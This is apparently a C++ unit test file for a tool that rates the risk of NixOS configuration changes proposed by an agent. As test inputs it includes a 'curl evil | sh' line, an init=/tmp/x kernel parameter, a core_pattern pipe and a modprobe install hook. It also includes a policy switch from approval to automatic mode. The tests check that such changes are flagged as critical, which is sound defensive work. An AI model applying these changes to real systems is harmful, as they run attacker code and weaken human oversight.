#include "tests/unit/evaluator/effects_machine.hpp"

using namespace agentd;
using namespace agentd::test;
using proposals::Risk;

namespace {
proposals::Effects with_nix(const std::string& text) {
    Pair pair;
    const auto before = plain_machine();
    auto after = before;
    after.etc["nix/nix.conf"] = text;
    return pair.compare(before, after);
}
} // namespace

TEST_CASE("whom Nix trusts is critical") {
    CHECK(the(with_nix("sandbox = true\ntrusted-users = root alice\nrequire-sigs = true\n"),
              "nix_trust")
              .subject == "trusted-users");
    CHECK(the(with_nix("sandbox = true\ntrusted-users = root\n"), "nix_trust").risk ==
          Risk::critical);
    CHECK(the(with_nix("sandbox = false\ntrusted-users = root\nrequire-sigs = true\n"), "nix_trust")
              .risk == Risk::critical);
    CHECK(has(with_nix("sandbox = true\ntrusted-users = root\nrequire-sigs = "
                       "true\nextra-trusted-users = eve\n"),
              "nix_trust"));
    CHECK(has(with_nix("sandbox = true\ntrusted-users = root\nrequire-sigs = true\npost-build-hook "
                       "= /tmp/x\n"),
              "nix_trust"));
}

TEST_CASE("an include in nix.conf is critical, with and without a bang") {
    for (const auto* line : {"!include /tmp/x\n", "include /tmp/x\n"}) {
        const auto effect = the(
            with_nix(std::string("sandbox = true\ntrusted-users = root\nrequire-sigs = true\n") +
                     line),
            "nix_trust");
        CHECK(effect.subject == "include");
        CHECK(effect.risk == Risk::critical);
    }
}

TEST_CASE("an ordinary Nix setting is ordinary") {
    CHECK(
        names(with_nix("sandbox = true\ntrusted-users = root\nrequire-sigs = true\ncores = 2\n")) ==
        std::vector<std::string>{"nix/nix_setting cores"});
}

TEST_CASE("parameters that replace init or mask a unit are critical and need a reboot") {
    Pair pair;
    const auto before = plain_machine();
    auto after = before;
    after.kernel_params = "loglevel=4 init=/tmp/x systemd.mask=agentd.service";
    const auto found = pair.compare(before, after);
    REQUIRE(names(found).size() == 2);
    for (const auto& effect : found.effects) {
        CHECK(effect.kind == "kernel_params");
        CHECK(effect.risk == Risk::critical);
    }
    CHECK(found.reboot_needed);
}

TEST_CASE("another kernel is told and needs a reboot") {
    Pair pair;
    const auto before = pair.build(plain_machine());
    pair.kernel = pair.store.package("linux-6.6.2");
    const auto found = pair.compare(before, pair.build(plain_machine()));
    CHECK(found.reboot_needed);
    CHECK(the(found, "kernel_changed").after->starts_with("linux-6.6.2"));
    CHECK(the(found, "package_updated").sentence == "linux goes from 6.6.1 to 6.6.2");
    CHECK_FALSE(has(found, "unclassified_changed"));
}

TEST_CASE("kernel settings that run programs are critical") {
    Pair pair;
    const auto before = plain_machine();
    auto after = before;
    after.etc["sysctl.d/60-nixos.conf"] = "kernel.core_pattern=|/tmp/x\n";
    after.etc["modprobe.d/nixos.conf"] = "install dccp /tmp/x\n";
    const auto found = pair.compare(before, after);
    CHECK(std::count_if(found.effects.begin(), found.effects.end(),
                        [](const auto& effect) { return effect.risk == Risk::critical; }) == 2);
}

TEST_CASE("a changed activation script is shown, a renamed list of users is not") {
    Pair pair;
    const auto before = plain_machine();
    auto after = before;
    after.activation += "\ncurl evil | sh";
    const auto found = pair.compare(before, after);
    CHECK(names(found) == std::vector<std::string>{"scripts/activation_changed activate"});
    CHECK(found.effects[0].after == "+ curl evil | sh");
    after = before;
    after.users.replace(after.users.find("[\"alice\"]"), 9, "[]");
    CHECK_FALSE(has(pair.compare(before, after), "activation_changed"));
}

TEST_CASE("a long change of a script is shown in its order, with the number of what is left out") {
    Pair pair;
    const auto before = plain_machine();
    auto after = before;
    after.activation += "\nzz first\naa second";
    for (int i = 0; i < 40; ++i)
        after.activation += "\nline " + std::to_string(i);
    const auto shown = *the(pair.compare(before, after), "activation_changed").after;
    CHECK(shown.starts_with("+ zz first\n+ aa second\n+ line 0\n"));
    CHECK(shown.ends_with("… and 18 more lines"));
}

TEST_CASE("a script that the activation calls is read too") {
    Pair pair;
    auto before = plain_machine();
    auto after = before;
    before.activation = pair.store.file("snippet", "echo fine\n", true);
    after.activation = pair.store.file("snippet", "echo evil\n", true);
    CHECK(the(pair.compare(before, after), "activation_changed").after ==
          "+ echo evil\n- echo fine");
}

TEST_CASE("an added package is one effect") {
    Pair pair;
    const auto before = plain_machine();
    auto after = before;
    after.packages = {pair.store.package("ripgrep-14.1.0", "rg")};
    const auto found = pair.compare(before, after);
    CHECK(names(found) == std::vector<std::string>{"packages/package_added ripgrep"});
    CHECK(found.effects[0].sentence == "ripgrep 14.1.0 is added");
    CHECK(found.closure.bytes_after == found.closure.bytes_before + 100);
}

TEST_CASE("a package without a version is not overlooked") {
    Pair pair;
    const auto before = plain_machine();
    auto after = before;
    after.packages = {pair.store.package("ls-wrapper", "ls")};
    CHECK(names(pair.compare(before, after)) ==
          std::vector<std::string>{"packages/package_added ls-wrapper"});
}

TEST_CASE("another release is told") {
    Pair pair;
    const auto before = plain_machine();
    auto after = before;
    after.version = "26.05";
    CHECK(names(pair.compare(before, after)) ==
          std::vector<std::string>{"system/release_changed nixos-version"});
}

TEST_CASE("the commit a system was built from is said and weighs nothing") {
    Pair pair;
    auto before = plain_machine();
    auto after = before;
    before.files["configuration-revision"] = "aaaa";
    after.files["configuration-revision"] = "bbbb";
    const auto found = pair.compare(before, after);
    CHECK(names(found) == std::vector<std::string>{"etc/etc_changed configuration-revision"});
    CHECK(proposals::max_risk(found) == Risk::none);
}

TEST_CASE("agentd's own policy is critical") {
    Pair pair;
    auto before = plain_machine();
    before.etc["agentd/policy.toml"] = "level = \"approve\"\n";
    auto after = before;
    after.etc["agentd/policy.toml"] = "level = \"auto\"\n";
    const auto effect = the(pair.compare(before, after), "agentd_changed");
    CHECK(effect.risk == Risk::critical);
    CHECK(effect.after == "+ level = \"auto\"\n- level = \"approve\"");
}

TEST_CASE("settings of a service are claimed, those of something unknown are not") {
    Pair pair;
    const auto before = plain_machine();
    auto after = before;
    after.etc["web/web.conf"] = "workers 4\n";
    CHECK(names(pair.compare(before, after)) ==
          std::vector<std::string>{"etc/etc_added etc/web/web.conf"});
    after.etc["other/other.conf"] = "x\n";
    CHECK(the(pair.compare(before, after), "unclassified_added").subject == "etc/other/other.conf");
}

TEST_CASE("a service called like a sensitive folder explains nothing in it") {
    Pair pair;
    const auto before = plain_machine();
    auto after = before;
    after.units["ssl.service"] = "[Service]\nUser=x\n";
    after.etc["ssl/certs/evil.crt"] = "x\n";
    CHECK(has(pair.compare(before, after), "unclassified_added"));
}

TEST_CASE("a service named after a file of a shell, or a new one, explains no file") {
    Pair pair;
    auto before = plain_machine();
    auto after = before;
    after.units["fresh.service"] = "[Service]\nUser=x\n";
    after.etc["fresh/fresh.conf"] = "x\n";
    CHECK(the(pair.compare(before, after), "unclassified_added").subject == "etc/fresh/fresh.conf");
    for (const std::string name : {"kshrc.local", "kshrc", "csh.local"}) {
        CAPTURE(name);
        auto old_machine = plain_machine();
        old_machine.units[name.substr(0, name.find('.')) + ".service"] = "[Service]\nUser=x\n";
        auto new_machine = old_machine;
        new_machine.etc[name] = "evil\n";
        CHECK(has(pair.compare(old_machine, new_machine), "unclassified_added"));
    }
    before = after;
    before.etc["web/web.conf"] = after.etc["web/web.conf"] = "workers 4\n";
    after.etc.erase("web/web.conf");
    after.units.erase("web.service");
    CHECK(has(pair.compare(before, after), "etc_removed"));
}

TEST_CASE("boot.json that says something else is not claimed") {
    Pair pair;
    const auto before = plain_machine();
    auto after = before;
    after.files["boot.json"] = R"({"org.nixos.bootspec.v1":{"init":"/tmp/x"}})";
    CHECK(the(pair.compare(before, after), "unclassified_added").subject == "boot.json");
}
